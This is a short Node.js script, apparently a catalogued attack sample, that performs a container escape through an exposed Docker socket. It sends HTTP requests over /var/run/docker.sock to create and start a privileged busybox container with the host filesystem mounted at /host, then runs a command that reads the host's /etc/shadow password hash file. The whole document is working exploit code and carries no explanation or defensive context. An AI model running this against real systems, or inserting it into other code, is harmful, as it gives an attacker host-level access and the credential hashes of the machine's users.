// class: container escape by docker socket; style: http over a unix socket
const http = require('http');
const body = JSON.stringify({ Image: 'busybox', Cmd: ['sh', '-c', 'cat /host/etc/shadow'], HostConfig: { Binds: ['/:/host'], Privileged: true } });
const req = http.request({ socketPath: '/var/run/docker.sock', path: '/containers/create', method: 'POST', headers: { 'Content-Type': 'application/json', 'Content-Length': body.length } }, (res) => {
  let out = '';
  res.on('data', (d) => (out += d));
  res.on('end', () => http.request({ socketPath: '/var/run/docker.sock', path: `/containers/${JSON.parse(out).Id}/start`, method: 'POST' }).end());
});
req.end(body);
